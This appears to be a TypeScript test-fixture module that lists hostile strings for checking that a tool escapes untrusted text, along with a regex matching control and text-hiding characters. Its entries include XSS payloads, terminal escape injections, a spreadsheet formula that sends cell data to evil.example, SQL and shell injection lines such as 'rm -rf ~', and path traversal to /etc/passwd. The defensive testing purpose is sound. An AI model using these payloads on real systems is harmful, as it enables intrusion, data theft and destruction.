/** Texts that somebody chose in order to do harm where they are shown, logged or opened; by what they try. */

/** Set by whatever of them a page runs. */
export const OWNED = '__netloupe_owned__';

export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  element: `<img src=x onerror="window.${OWNED}=1">`,
  script: `</title><script>window.${OWNED}=1</script>`,
  handler: `" onmouseover="window.${OWNED}=1" x="`,
  frame: '<iframe src="javascript:parent.x=1"></iframe><svg onload=alert(1)>',
  colours: '\u001B[31;1mred\u001B[0m\u001B[2J\u001B[H',
  title: '\u001B]0;owned\u0007\u001B]52;c;cm0gLXJm\u0007',
  link: '\u001B]8;;file:///etc/passwd\u001B\\click\u001B]8;;\u001B\\',
  device: '\u001BP1$r0m\u001B\\\u009B31m\u009D0;x\u009C',
  overwrite: 'good.example\rEVIL.example\bX\u007F',
  lines: 'one\r\nnetloupe: two\nthree\u2028four\u2029five\u0085six\u000Bseven\u000Ceight',
  turned: '\u202Egpj.elpmaxe\u202C\u2066x\u2069\u200F\u061C',
  unseen: 'pay\u200Bpal\u200C\u200D\u2060\uFEFF\u00AD.example\u{E0041}\u180E',
  combining: `Z${'\u0301\u0489\u035F'.repeat(60)}`,
  homograph: 'аррӏе.example',
  emoji: '🏴‍☠️🦉',
  formula: '=HYPERLINK("http://evil.example?"&A1,"x")',
  plus: "+1+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: '-2+3',
  tabbed: '\t=1+1',
  quotes: `'; DROP TABLE sessions; --`,
  double: '"; rm -rf ~; "$(id)`id`',
  format: '%s%n%x%1$s{0}${7*7}%00',
  markdown: '[x](javascript:alert(1)) ![y](file:///etc/passwd) <http://evil.example>',
  json: '{"a":1},\\"\\\\\\u0000]}',
  path: '../../../../etc/passwd',
  nothing: 'a\u0000b',
};

/** What must not come out as it is where people or terminals read: controls but for the ends of lines, and what turns or hides text. */
export const NEVER_RAW: RegExp =
  // eslint-disable-next-line no-control-regex -- they are what it looks for
  /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u00AD\u061C\u180E\u200B-\u200F\u2028-\u202E\u2060-\u2069\uFEFF\u{E0000}-\u{E007F}]/u;
